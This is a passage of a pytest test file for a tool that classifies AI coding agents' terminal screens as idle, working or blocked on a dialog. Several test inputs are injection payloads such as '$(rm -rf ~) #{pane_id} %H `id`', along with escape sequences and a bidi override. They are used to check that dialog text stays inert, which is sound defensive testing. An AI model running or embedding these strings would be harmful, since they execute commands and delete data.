    # typed at a line-mode prompt, no input area under it
    ["What do you want to do?", "Press ENTER to confirm or provide rejection reason",
     "Submit task: Esc+Enter | Navigate history: Arrow Up/Down"],
], ids=["finished", "quoted", "typed", "rules-composer", "line-mode"])
def test_confirmation_words_that_are_no_dialog(generic: rules.Manifest,
                                               rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def test_an_input_box_drawn_with_eighth_blocks_reads_idle(generic: rules.Manifest) -> None:
    rows = confirm("echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT",
                   ask="Agent wants to finish. Type a comment or press enter to quit.")
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_input")
    # a spinner over it reads working
    busy = read(generic, [*rows[:-5], "  ⠦ Thinking... (3s, esc to interrupt)", *INPUT_BOX])
    assert busy.state == "working"


AIDER_HEAD = ["─" * 60, "Tool v1.0", "Main model: gpt-4o", "─" * 60, "> explain the project", ""]


@pytest.mark.parametrize("bar", ["█░         Waiting for the model",
                                 "      ░█   Waiting for the model",
                                 "    ▓█     Thinking $(id) '#{x}'",
                                 # each frame of the pair's run along Aider's field: at its
                                 # right end one blank is left before the words
                                 *(" " * k + pair + " " * (9 - k) + "Waiting for the model"
                                   for k in range(9) for pair in ("█░", "░█"))])
def test_a_block_and_a_shade_moving_before_words_reads_working(generic: rules.Manifest,
                                                               bar: str) -> None:
    """A line-mode chat's entered prompt, then its waiting row: a block and a shade in a
    short field of blanks before the row's words (the pair moves along the field)."""
    v = read(generic, [*AIDER_HEAD, bar])
    assert (v.state, v.rule_id) == ("working", "tui_working"), (v.rule_id, bar)


@pytest.mark.parametrize("rows", [
    # a logo drawn with blocks and shades: no words after its glyphs
    ["                      ░█▀█▛▀▀▜▙▄", "                    ░▀░▀▒▛░░  ▝▀▘", "> "],
    # a progress bar's cells run on into more cells, not blanks and words
    ["████░░░░░░ 40% downloading"],
    # the pair far into a row of words
    ["the legend reads                █░ done"],
    # a still legend, a bar's label: the pair, one blank or two, its word (no field that
    # the pair moves along), under a bar, and with a turn's words above it
    ["  ████████░░░░ 60%", "  █░ used   ░░ free"],
    ["█░ used"],
    ["    ▓█  Memory", "    ░█  Disk"],
    [*AIDER_HEAD, "Tokens: 2.1k sent", "  █░ cached"],
], ids=["logo", "progress-cells", "in-words", "legend", "legend-margin", "legend-indented",
        "legend-after-turn"])
def test_blocks_and_shades_that_are_no_moving_bar(generic: rules.Manifest,
                                                  rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_working", (v.rule_id, rows)


HALF_BOX = ["▄" * 100, " >   Type your message or @path/to/file", "▀" * 100,
            " workspace (/directory)        sandbox        /model",
            " /tmp/work                     no sandbox     Auto"]


@pytest.mark.parametrize("text", ["   Type your message or @path/to/file",
                                  "what is two plus two $(id) '#{x}'", ""])
def test_an_input_box_drawn_with_half_blocks_reads_idle(generic: rules.Manifest,
                                                        text: str) -> None:
    """Runs of lower and upper half blocks above and below the input row, a footer of two
    rows: the composer, empty or with text typed in it; a spinner over it reads working."""
    box = [HALF_BOX[0], f" > {text}", *HALF_BOX[2:]]
    rows = ["✦ Two plus two is four.", "", "─" * 100, " Shift+Tab to accept edits", *box]
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_input")
    busy = read(generic, ["✦ Two plus two is four.", "",
                          " ⠴ Thinking... (esc to cancel, 0s)", "─" * 100, *box])
    assert busy.state == "working"


@pytest.mark.parametrize("rows", [
    # a logo in block letters at the bottom: short runs of half blocks
    ["", "█▀▀█ █▀▀█ █▀▀█ █▀▀▄", "█  █ █▀▀▀ █  █ █▀▀▀", "▀▀▀▀ ▀    ▀▀▀▀ ▀  ▀", "v1.0"],
    # a bar chart between half-block rules: block glyphs on the row
    ["▄" * 60, " cpu ███████▌   mem ████▏", "▀" * 60, "q quit"],
    # the runs with two rows between them
    ["▄" * 60, " > typed", " more", "▀" * 60],
    # a banner drawn between half-block runs (a start-up splash, a logo's frame) over a
    # turn under way: its title is no prompt, and the answer's rows follow it
    ["▄" * 60, "   Acme Agent 2.0 - welcome $(id) '#{x}'", "▀" * 60, "> fix the bug",
     "Reading the files"],
    ["▄" * 60, "", "▀" * 60, "Loading tools", "Connecting to the model"],
    ["▄" * 40, "  ✦ Acme", "▀" * 40],
], ids=["logo", "chart", "tall", "banner-over-turn", "empty-banner", "glyph-title"])
def test_half_block_rows_that_are_no_input_box(generic: rules.Manifest,
                                               rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_composer_input", (v.rule_id, rows)


def test_an_approval_box_cut_off_by_the_composer_is_a_partial_permission(
        generic: rules.Manifest) -> None:
    # its heading asks for approval; its command runs down to the composer: the options
    # are below the screen's bottom, so the light says blocked and answer types nothing
    rows = [*square_box(" >>> execute Requires Approval <<<",
                        *(f" touch f{i:02}.txt $(id) '#{{x}}'" for i in range(20)))[:-1],
            *COMPOSER]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_cut")
    d = v.dialog
    assert d is not None and d.partial and not d.options
    assert "touch f00.txt $(id) '#{x}'" in [s.strip() for s in d.subject]
    with pytest.raises(dialog.ChoiceError):
        dialog.resolve(d, "1")
    # the same box closed above the composer, with no options: a finished tool's output
    closed = [*square_box(" >>> execute Requires Approval <<<", " touch f00.txt",
                          " touch f01.txt", " touch f02.txt"), *COMPOSER]
    assert read(generic, closed).state != "blocked"
    # a box of output that asks nothing, cut by the composer
    plain = [*square_box(" Output", *(f" line {i}" for i in range(20)))[:-1], *COMPOSER]
    assert read(generic, plain).state != "blocked"


def glyph_dialog(*command: str, options: tuple[str, ...] = (
        "> ✔ Allow", "  ✘ Deny", "  📝 Deny and explain (say what to do instead)"),
        after: tuple[str, ...] = ()) -> list[str]:
    return ["> tidy the tree", "", "● run  cmd=\"...\"", "",
            "╭" + "─" * 30 + " Run " + "─" * 30 + "╮",
            *(f"│  {r:<62} │" for r in ("", "About to run:", *command, "")),
            "╰" + "─" * 65 + "╯", "", "", "🤔 How should this go?", "", *options, "",
            "↑/↓ go · enter pick · esc back", *after]


def test_options_that_wear_a_glyph_under_a_question_with_hints_last(
        generic: rules.Manifest) -> None:
    v = read(generic, glyph_dialog("$ mkdir -p out && echo $(id) > '#{x}' %H \x1b]0;t\x07"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_glyphs")
    d = v.dialog
    assert d is not None
    # the glyph is no part of a label; the pointer shows the selection; ↑/↓ and Enter
    assert [(o.label, o.selected) for o in d.options] == [
        ("Allow", True), ("Deny", False), ("Deny and explain (say what to do instead)", False)]
    assert dialog.keys_for(d, d.options[0]) == ["\r"]
    assert dialog.keys_for(d, d.options[1]) == ["\x1b[B", "\r"]
    # what it would run is the box above it, whole, inert; another command is another dialog
    assert "About to run:" in d.subject
    cmd = [s for s in d.subject if s.startswith("$ ")]
    assert len(cmd) == 1 and "\x1b" not in cmd[0] and "\x07" not in cmd[0]
    assert cmd[0].startswith("$ mkdir -p out && echo $(id) > '#{x}' %H")
    assert not d.partial
    other = read(generic, glyph_dialog("$ mkdir -p out2"))
    assert other.dialog is not None and other.dialog.id != d.id
    # a command whose box's top is past the screen's is partial: answer types nothing
    tall = glyph_dialog("$ touch a", *(f"touch f{i:02}.txt" for i in range(30)))
    t = read(generic, tall[8:])
    assert (t.state, t.rule_id) == ("blocked", "tui_dialog_glyphs")
    assert t.dialog is not None and t.dialog.partial


def test_options_that_wear_a_glyph_and_neither_approve_nor_decline_are_a_question(
        generic: rules.Manifest) -> None:
    v = read(generic, glyph_dialog("$ ls", options=("> 🔴 Red", "  🔵 Blue", "  ⚪ Other")))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_glyphs")
    assert v.dialog is not None
    assert [o.label for o in v.dialog.options] == ["Red", "Blue", "Other"]


@pytest.mark.parametrize("rows", [
    # answered: the dialog stays drawn, what follows it below (its hints no longer last)
    glyph_dialog("$ ls", after=("Allowed.", "", "Here is what I found.", ">>>",
                                "Pup [x] (/tmp/work)", "1k tokens | Idle")),
    # quoted in the conversation, no glyph and no pointer on its options, a prompt under it
    ["It asked:", "How should this go?", "  Allow", "  Deny",
     "↑/↓ go · enter pick · esc back", "Nothing is waiting now.", ">>>",
     "Pup [x] (/tmp/work)", "1k tokens | Idle"],
    # typed at the prompt
    [">>> How should this go? > ✔ Allow  ✘ Deny (enter pick · esc back)",
     "Pup [x] (/tmp/work)", "1k tokens | Idle"],
    # a bulleted list with one entry behind a pointer, no hints row under it
    ["Steps:", "> • first", "  • second", "Done.", ">>>", "Pup [x]", "Idle"],
], ids=["answered", "quoted", "typed", "no-hints"])
def test_glyph_options_that_are_no_dialog(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def form(*options: str, hints: str = "Space Select │ Ctrl+S Submit │ ? Help") -> list[str]:
    pane = ["  Questions", "", "  ▶  Color", "", "  ←→ Switch", "  ↑↓ Navigate",
            "", "  Ctrl+S Submit", "", "", "", "", ""]
    right = ["   [Color] (1/1)", "", "   ? Which color #{x} $(id) do you prefer?", "",
             *(f"     {o}" for o in options), "", hints]
    return [f"{p:<20}│{r}" for p, r in zip(pane + [""] * 20, right, strict=False)]


def test_a_form_of_radio_choices_whose_hints_name_a_mark_and_a_send_key(
        generic: rules.Manifest) -> None:
    v = read(generic, form("❯ ( ) Red", "", "  ( ) Blue", "", "  ( ) Other",
                           "    Enter a custom option"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "question", "tui_question_form")
    d = v.dialog
    assert d is not None and "Which color #{x} $(id) do you prefer?" in d.question
    # a choice is marked, then the form sent: no option is typed blindly
    assert not d.options
    with pytest.raises(dialog.ChoiceError):
        dialog.resolve(d, "1")


@pytest.mark.parametrize("rows", [
    # sent: the form stays drawn above the answer, its hints gone
    [*form("❯ (●) Red", "  ( ) Blue")[:-1], "You chose red.", ">>>", "Pup [x]", "Idle"],
    # hints that name one key only
    form("❯ ( ) Red", "  ( ) Blue", hints="Space Select │ ? Help"),
    # no choice marker on the options
    form("❯ Red", "  Blue"),
], ids=["sent", "one-key", "no-markers"])
def test_forms_that_are_no_dialog(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_question_form", (v.rule_id, rows)


FOOTER = ["Pup [dog] (/tmp/work)", "200/128k tokens (0%) | Streamed ~195 tokens | Idle"]


def test_an_empty_prompt_over_a_footer_reads_idle(generic: rules.Manifest) -> None:
    v = read(generic, ["> make the output directory", "", "Done.", "", ">>>", *FOOTER])
    assert (v.state, v.rule_id) == ("idle", "tui_composer_footer")
    assert read(generic, ["Done.", "❯ ", "  ? for shortcuts"]).rule_id == "tui_composer_footer"
    # a bouncing ball over it (in the footer's row) reads working
    busy = read(generic, ["> make the output directory", ">>>", FOOTER[0],
                          "(  🐶  ) | 5.3k/128k tokens (4%) | Working"])
    assert (busy.state, busy.rule_id) == ("working", "tui_working")


@pytest.mark.parametrize("rows", [
    # a REPL's prompt on the last row: no footer under it
    [">>> print(1)", "1", ">>> "],
    # a prompt showing its placeholder over its footer (stays drawn while an answer streams)
    ["• Here is what", "› Ask me to do anything", "  model · /tmp/work", "  ? for shortcuts"],
    # a prompt over more than three rows
    [">>>", "a", "b", "c", "d"],
    # the user's echoed prompt with text
    ["> make the output directory", "Pup [dog] (/tmp/work)", "Idle"],
], ids=["repl", "placeholder", "tall-footer", "echo"])
def test_prompts_that_are_no_empty_composer_over_a_footer(
        generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_composer_footer", (v.rule_id, rows)


WIDE_TOP, WIDE_END = "╭" + "─" * 70 + "╮", "╰" + "─" * 70 + "╯"


def test_a_one_row_input_box_across_the_screen_reads_idle(generic: rules.Manifest) -> None:
    hint = "  send q to exit | press enter to send"
    v = read(generic, ["user", "hello", "    Hi.", WIDE_TOP, f"│ send a message{' ' * 55}│",
                       WIDE_END, hint])
    assert (v.state, v.rule_id) == ("idle", "tui_composer_box")
    # a bouncing ball in it reads working
    busy = read(generic, ["user", "hello", WIDE_TOP, f"│(  ●   )  Thinking{' ' * 52}│",
                          WIDE_END, hint])
    assert (busy.state, busy.rule_id) == ("working", "tui_working")


@pytest.mark.parametrize("rows", [
    # a narrow box (a notice), not across the screen
    ["╭" + "─" * 20 + "╮", "│ saved " + " " * 13 + "│", "╰" + "─" * 20 + "╯"],
    # a box of two rows
    [WIDE_TOP, f"│ a{' ' * 68}│", f"│ b{' ' * 68}│", WIDE_END],
    # a one-row box with more than three rows under it
    [WIDE_TOP, f"│ a{' ' * 68}│", WIDE_END, "x", "y", "z", "w"],
], ids=["narrow", "two-rows", "tall-footer"])
def test_boxes_that_are_no_input_box(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_composer_box", (v.rule_id, rows)


def tall_box(*rows: str, over: str = "└" + "─" * 70 + "┘") -> list[str]:
    """A conversation panel (its last rows, `over` its bottom edge), then an input box of
    `rows` across the screen and a status row under it, as a Textual app draws them."""
    return ["│ │ what is two plus two" + " " * 48 + "│", "│" + " " * 70 + "│", over,
            "┌" + "─" * 70 + "┐", *(f"│ {r:<68} │" for r in rows), "└" + "─" * 70 + "┘",
            " main ● work            edited: -             last: -"]


def test_a_tall_empty_input_box_reads_idle_and_loading_dots_over_it_working(
        generic: rules.Manifest) -> None:
    v = read(generic, tall_box("", "", "", ""))
    assert (v.state, v.rule_id) == ("idle", "tui_composer_box")
    assert (read(generic, tall_box("", "")).state) == "idle"
    # the same box while a turn runs: a row of loading dots over it, in the panel
    screen = tall_box("", "", "", "")
    screen[1] = "│" + " " * 30 + "● ● ● ● ●" + " " * 31 + "│"
    busy = read(generic, screen)
    assert (busy.state, busy.rule_id) == ("working", "tui_working")
    screen[1] = " " * 30 + "• • • •"
    assert read(generic, screen).state != "working"  # another dot: not this spinner


@pytest.mark.parametrize("rows", [
    # text typed in the tall box
    tall_box("make the output directory", "", "", ""),
    # a question in a tall box
    tall_box("Delete the file?", "", "", ""),
    # a tall empty box right under a bare rule: a panel still drawn over the log's edge
    tall_box("", "", "", "", over="─" * 72),
    # a box of five empty rows
    tall_box("", "", "", "", ""),
], ids=["typed", "question", "under-a-rule", "five-rows"])
def test_tall_boxes_that_are_no_empty_input_box(generic: rules.Manifest,
                                                rows: list[str]) -> None:
    assert read(generic, rows).rule_id != "tui_composer_box", rows


@pytest.mark.parametrize("row", ["● ● ●", " main ● work ● x", "● ● ● ● ● done", "●●●●●"])
def test_dots_that_are_no_loading_row(generic: rules.Manifest, row: str) -> None:
    assert read(generic, ["> go", row]).state != "working", row


@pytest.mark.parametrize("row", ["( ●    )", "(     ●)", "│(  ●   )  Thinking", "(  🐶  ) | x"])
def test_a_bouncing_ball_spinner_reads_working(generic: rules.Manifest, row: str) -> None:
    v = read(generic, ["> go", row])
    assert (v.state, v.rule_id) == ("working", "tui_working"), row


@pytest.mark.parametrize("row", ["(●)", "( x )", "(  a  )", "(esc)", "( 1 )"])
def test_parentheses_that_are_no_bouncing_ball(generic: rules.Manifest, row: str) -> None:
    assert read(generic, ["> go", row]).state != "working", row


#: a composer box across the screen over two status rows and a footer of keys
STATUS_COMPOSER = [WIDE_TOP, f"│ Type your message, @mention a file{' ' * 35}│", WIDE_END,
            "[Ctrl+L for multi-line] • ~/work ctx N/A •", "$ 0.00 (↑ 0 ↓ 0)",
            " ^a Select all  ^q Quit the application  ^p palette"]


def on_composer(command: str, *options: str, ask: str = "  🔍 Confirm 1 action(s)?") -> list[str]:
    """A confirmation under its action, above the composer that stays drawn: the
    question, a blank row, the options (the first behind the pointer), blank rows."""
    first, *rest = options
    return ["  > make the output directory", "", f"  ▶ terminal: {command}", "", ask, "",
            f"  > {first}", *(f"    {o}" for o in rest), "", "", *STATUS_COMPOSER]


def test_the_composer_box_over_status_rows_and_a_footer_reads_idle(
        generic: rules.Manifest) -> None:
    v = read(generic, ["  > what is two plus two", "", "  Four.", "", *STATUS_COMPOSER])
    assert (v.state, v.rule_id) == ("idle", "tui_composer_box")
    # the spinner line over it reads working
    busy = read(generic, ["  > what is two plus two", " ⠸ Working (1s • ESC: pause)",
                          *STATUS_COMPOSER])
    assert (busy.state, busy.rule_id) == ("working", "tui_working")


def test_a_pointer_list_under_a_question_right_above_the_composer(
        generic: rules.Manifest) -> None:
    hostile = "rm -rf build; echo $(id) > '#{pane_id}' %H \x1b]2;x\x07 \u202e"
    rows = on_composer(hostile, "Yes", "No", "Always", "Auto LOW/MED")
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_on_composer")
    d = v.dialog
    assert d is not None and d.choose == "arrows"
    # the prompt echoed behind ">" and the "▶" rows above the question are no options
    assert [(o.label, o.selected) for o in d.options] == [
        ("Yes", True), ("No", False), ("Always", False), ("Auto LOW/MED", False)]
    assert d.question == "🔍 Confirm 1 action(s)?"
    # `answer` moves down once and presses Enter for "No"
    assert dialog.keys_for(d, d.options[1]) == ["\x1b[B", "\r"]
    # options that neither approve nor decline: a question
    q = read(generic, on_composer("x", "Red", "Blue", ask="  Which color do you prefer?"))
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "tui_question_on_composer")
    assert [o.label for o in q.dialog.options] == ["Red", "Blue"]


@pytest.mark.parametrize("rows", [
    # the same list quoted in an answer, the answer's text under it
    ["  OpenHands asked:", "    🔍 Confirm 1 action(s)?", "", "      > Yes", "        No",
     "", "  Nothing is waiting now.", "", *STATUS_COMPOSER],
    # typed into the composer
    ["  > hello", "", WIDE_TOP, f"│ Confirm 1 action(s)? > Yes  No  Always{' ' * 31}│",
     WIDE_END, *STATUS_COMPOSER[3:]],
    # one option only
    ["  Shall I go on?", "", "  > Yes", "", *STATUS_COMPOSER],
    # no question over the options: a prompt echoed and a reply
    ["  > make the output directory", "    Done, the output is in out/.", "", *STATUS_COMPOSER],
    # hostile words behind the pointer with no question
    ["  > $(rm -rf ~) #{pane_id}", "    %H `id`", *STATUS_COMPOSER],
], ids=["quoted", "typed", "one-option", "no-question", "hostile"])
def test_pointer_rows_above_the_composer_that_are_no_dialog(
        generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def edged_buttons(question: str, *labels: str, left: str = "", right: str = "") -> list[str]:
    """A modal box over the screen: its question, then its buttons drawn with eighth-block
    edges on one row (`left`/`right`: what the screen shows beside the box)."""
    top = "   ".join("▔" * 20 for _ in labels)
    mid = "   ".join(f"{lab:^20}" for lab in labels)
    end = "   ".join("▁" * 20 for _ in labels)
    inner = [f"{question:^50}", "", top, mid, end, ""]
    return [f"{left:<10}╭{'─' * 52}╮", *(f"{left:<10}│ {r:<50} │{right}" for r in inner),
            f"{left:<10}╰{'─' * 52}╯"]


def test_buttons_drawn_with_eighth_block_edges_under_a_question(
        generic: rules.Manifest) -> None:
    hostile = "$(rm -rf ~) #{pane_id} %H"
    rows = ["  > what is two plus two", *edged_buttons("Terminate session?", "Yes, proceed",
                                                    "No, dismiss", right=f"h {hostile}"),
            "  Four.", *STATUS_COMPOSER[:-1], " ^c Exit  esc Cancel"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_buttons_edged")
    # its question, without what the screen shows beside the box; no options: `answer`
    # types nothing (the focus is a colour, Tab moves it)
    assert v.dialog is not None and v.dialog.question == "Terminate session?"
    assert not v.dialog.options
    with pytest.raises(dialog.ChoiceError):
        dialog.keys_for(v.dialog, dialog.Option(1, "Yes, proceed", True, None))
    q = read(generic, edged_buttons("Which one?", "Red", "Blue"))
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "tui_question_buttons_edged")


@pytest.mark.parametrize("rows", [
    # one button only
    edged_buttons("Continue?", "OK"),
    # no question above the buttons
    edged_buttons("Settings", "Save", "Close"),
    # an input box drawn with eighth blocks (one run a row)
    ["  Shall I?", "▊" + "▔" * 40 + "▎", "▊ Type your input... ▎", "▊" + "▁" * 40 + "▎"],
    # the edges quoted with no labels between them
    ["  Ready?", "▔" * 10 + "   " + "▔" * 10, "▁" * 10 + "   " + "▁" * 10],
], ids=["one-button", "no-question", "input-box", "no-labels"])
def test_eighth_block_rows_that_are_no_buttons(generic: rules.Manifest,
                                               rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


#: mini-SWE-agent's header (its first row) and its footer of keys: its only spinner
MINI_HEADER = " ⭘                                       Step 1/1 - RUNNING {} - Cost: $0.00"
MINI_KEYS = " ^q Quit  l Step++  h Step--  y YOLO mode  c CONFIRM mode  f1 Help        ▏^p palette"


@pytest.mark.parametrize("glyph", ["⠹", "⠼", "⣾"])
def test_a_spinner_in_the_header_reads_working(generic: rules.Manifest, glyph: str) -> None:
    rows = [MINI_HEADER.format(glyph), "", "", "    SYSTEM", "", "    You are a helpful assistant.",
            "", "    USER", "", "    Please solve this issue: make the output directory",
            *[""] * 20, MINI_KEYS]
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("working", "tui_working_header")


@pytest.mark.parametrize("rows", [
    # the same header waiting for input: no spinner
    [" ⭘        Step 2/2 - AWAITING_INPUT - Cost: $0.00", "", "    THOUGHT: done.", MINI_KEYS],
    # a line-mode program's spinner line scrolled up to the first row
    ["⠋ Installing packages", "added 3 packages in 2s", "$ "],
    # braille in the words of the first row (no blanks around it), a row of braille art
    ["see ⠁⠃⠉ for details", "ok"],
    ["⣿⣿⣿⣿ ⣿⣿⣿", "ok"],
], ids=["awaiting", "line-mode", "in-a-word", "art"])
def test_first_rows_that_are_no_header_spinner(generic: rules.Manifest,
                                               rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.rule_id != "tui_working_header", (v.rule_id, rows)



# ------------------------------------------------ a dialog quoted above a still composer

HELD_OUT = Path(__file__).resolve().parents[1] / "heldout"
WIDE = 118


def _box(text: str) -> list[str]:
    return ["╭" + "─" * WIDE + "╮", f"│ {text:<{WIDE - 1}}│", "╰" + "─" * WIDE + "╯"]


#: the composers of agents wrap has no manifest for, as their screens draw them (paths
#: shortened): each reads idle under what the conversation shows
COMPOSERS = {
    "box-hints": [*_box("send a message"),
                  '  send q or ctrl+c to exit | send "/clear" to reset | press enter to send'],
    "prompt-footer": [">>>", "Puppy [Code-Puppy 🐶] [fake] (/tmp/work)",
                      "105/128k tokens (0%) | Streamed ~8 tokens | Idle"],
    "input-area": ["── input " + "─" * 100, "", "─" * 110,
                   "agent (gpt-4o ○)  …/work  ctrl-j: newline | /feedback: send feedback",
                   " " * 90 + "context: 0.1% (105/128k)"],
    "cursor-box": [*_box("● ▋Ask anything, @ for context, / for slash commands"),
                   "  /tmp/work" + " " * 60 + "◉ Continue CLI"],
    "prompt-box": ["┌" + "─" * WIDE + "┐", "│ >" + " " * (WIDE - 2) + "│", "└" + "─" * WIDE + "┘",
                   " manual  /tmp/work     openai:gpt-4o",
                   "      Context: 0% / Tokens: 143 • <$0.01"],
    "rules": ["─" * 120, "❯ Ask anything...", "─" * 120,
              " gpt-4o ██████ (100) $0.00        ○ Plan ● Act (Tab)", " work",
              " Auto-approve all disabled (Shift+Tab)"],
    "status-box": [" ╭" + "─" * WIDE + "╮",
                   f" │ {'Type your message, @mention a file, or / for commands':<{WIDE - 1}}│",
                   " ╰" + "─" * WIDE + "╯",
                   " [Ctrl+L for multi-line • Ctrl+X for custom editor] • /tmp/work ctx 100",
                   " • $ 0.0006 (↑ 100 ↓ 37 cache 0%)", "", "",
                   " ^a Select all  ^x Open external editor  ^q Quit▏^p palette"],
    "eighths": ["   ▊" + "▔" * 100 + "▎", "   ▊  Type your input..." + " " * 80 + "▎",
                "   ▊" + "▁" * 100 + "▎", "", " ^q Quit  ^y YOLO mode  f1 Help"],
}

#: dialogs an answer quotes as its last rows, indented under its words
QUOTES = {
    "pointer": ["    🔍 Confirm 1 action(s)?", "", "    > Yes", "      No", "      Always"],
    "pointer-deeper": ["    🔍 Confirm 1 action(s)?", "", "      > Yes", "        No"],
    "numbered": ["    Do you want to proceed?", "    ❯ 1. Yes", "      2. No, and tell me why"],
    "numbered-plain": ["    Do you want to proceed?", "    1. Yes", "    2. No"],
    "keys": ["    Approve tool call?", "    [y] Approve   [n] Deny"],
    "keys-command": ["    Approve tool call?", "    $ rm -rf build", "    [y] Approve   [n] Deny"],
    "keyed": ["    Would you like to continue?", "    > Continue (tab)",
              "      No, and tell it what to do differently (esc)"],
    "hostile": ["    Run $(rm -rf ~) #{pane_id} %H `id`?", "    > Yes \u202e\x1b]2;x\x07",
                "      No '#(touch /tmp/x)'"],
}
LEADS = {"bullet": ["● It asked:", ""], "margin": ["  It asked:", ""], "none": []}


@pytest.mark.parametrize("lead", LEADS)
@pytest.mark.parametrize("quote", QUOTES)
@pytest.mark.parametrize("composer", COMPOSERS)
def test_a_dialog_quoted_as_the_last_rows_above_a_composer_is_none(
        generic: rules.Manifest, composer: str, quote: str, lead: str) -> None:
    rows = ["  > what did it ask", "", *LEADS[lead], *QUOTES[quote], "", "",
            *COMPOSERS[composer]]
    v = read(generic, rows)
    assert v.state != "blocked", (v.rule_id, rows)


def _screen(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").split("\n")


def test_a_real_quote_as_the_last_rows_above_the_composer_is_none(
        generic: rules.Manifest) -> None:
    """OpenHands CLI's negatives screen with the answer's last row taken out: its quote of
    the dialog ("🔍 Confirm 1 action(s)?", "> Yes", "No" ...) is the last rows above its
    still composer, indented under the answer's first row; its live dialog, drawn at the
    conversation's margin over the same composer, is one."""
    screens = HELD_OUT / "openhands-1.16.0" / "screens"
    lines = _screen(screens / "done--quoted-dialog.txt")
    lines = [x for x in lines if "Nothing is waiting now." not in x]
    v = read(generic, lines)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_box")
    live = read(generic, _screen(screens / "blocked-permission--bash-rm.txt"))
    assert (live.state, live.kind, live.rule_id) == (
        "blocked", "permission", "tui_dialog_on_composer")
    assert live.dialog is not None and [o.label for o in live.dialog.options] == [
        "Yes", "No", "Always", "Auto LOW/MED"]


@pytest.mark.parametrize("composer", COMPOSERS)
def test_a_live_dialog_at_the_conversations_margin_above_a_composer(
        generic: rules.Manifest, composer: str) -> None:
    rows = ["  > clean the build", "", "  ▶ terminal: rm -rf build", "",
            "  🔍 Confirm 1 action(s)?", "", "  > Yes", "    No", "    Always", "", "",
            *COMPOSERS[composer]]
    if composer == "eighths":  # no rule over it: the composer is the bottom rows
        rows = rows[:-len(COMPOSERS[composer])]
    v = read(generic, rows)
    assert (v.state, v.kind) == ("blocked", "permission"), (v.rule_id, composer)


def test_a_live_pointer_list_under_a_rule_is_no_quote(generic: rules.Manifest) -> None:
    """A row left of the question that is no words (a rule, a logo) is no answer the
    question is quoted in; the same list under an answer's words is."""
    live = [" ▝▜██████▀  Some Agent v1", "─" * 120,
            " Make auto mode your default permission mode?", "",
            "   Auto mode lets the agent handle permission prompts.", "",
            "   ❯ Yes, set auto mode as my default", "     No, keep manual mode"]
    v = read(generic, live)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_pointer")
    quoted = ["● It asked:", *(f"  {r}" for r in live[2:])]
    assert read(generic, quoted).state != "blocked"


# ------------------------------------ line-mode chats: keys in brackets, their prompt

def cursor_line(rows: list[str]) -> rules.Snapshot:
    """`rows` with the cursor at the end of the last one (a program waiting there)."""
    return rules.Snapshot(lines=rows + [""] * (30 - len(rows)),
                          cursor=(len(rows) - 1, len(rows[-1])))


CHAT_LOG = ["User: clean the build", "", "Assistant:", "@shell(call_1):", "rm -rf build",
            "· some log line of the program", ""]


@pytest.mark.parametrize(("ask", "keys", "kind"), [
    (" Execute shell? [Y/n/c/e/a/?]", ["Y", "n", "c", "e", "a", "?"], "permission"),
    ("(1/1) Stage this hunk [y,n,q,a,d,e,?]? ", ["y", "n", "q", "a", "d", "e", "?"],
     "permission"),
    ("Overwrite notes.txt? [y/n/a/q] ", ["y", "n", "a", "q"], "permission"),
    ("Which mirror? [a/b/c]: ", ["a", "b", "c"], "question"),
], ids=["slashes", "commas", "lower", "no-y-n"])
def test_a_question_whose_bracketed_options_are_keys(generic: rules.Manifest, ask: str,
                                                    keys: list[str], kind: str) -> None:
    v = rules.evaluate(generic, cursor_line([*CHAT_LOG, ask]))
    assert (v.state, v.kind) == ("blocked", kind), v.rule_id
    assert v.dialog is not None and v.dialog.question.startswith(ask.strip())
    assert "rm -rf build" in v.dialog.subject  # what it asks about: the rows above
    assert [o.label for o in v.dialog.options] == keys
    # each key is typed as shown, in lower case, with Enter
    first = v.dialog.options[0]
    assert dialog.keys_for(v.dialog, first) == [keys[0].lower(), "\r"]
    assert dialog.resolve(v.dialog, "n" if "n" in keys else "b").label in ("n", "b")


def test_a_key_typed_but_not_entered_is_the_same_dialog(generic: rules.Manifest) -> None:
    ask = " Execute shell? [Y/n/c/e/a/?]"
    before = rules.evaluate(generic, cursor_line([*CHAT_LOG, ask]))
    after = rules.evaluate(generic, cursor_line([*CHAT_LOG, ask + " n"]))
    assert before.dialog is not None and after.dialog is not None
    assert after.dialog.id == before.dialog.id and after.dialog.typed == "n"
    yes = dialog.resolve(after.dialog, "y")
    assert dialog.keys_for(after.dialog, yes) == ["\x7f", "y", "\r"]


def test_keys_told_apart_by_case_are_typed_as_shown(generic: rules.Manifest) -> None:
    v = rules.evaluate(generic, cursor_line(["(1/2) Stage this hunk [y,n,q,a,d,j,J,g,/,e,?]? "]))
    assert v.dialog is not None
    by_label = {o.label: o for o in v.dialog.options}
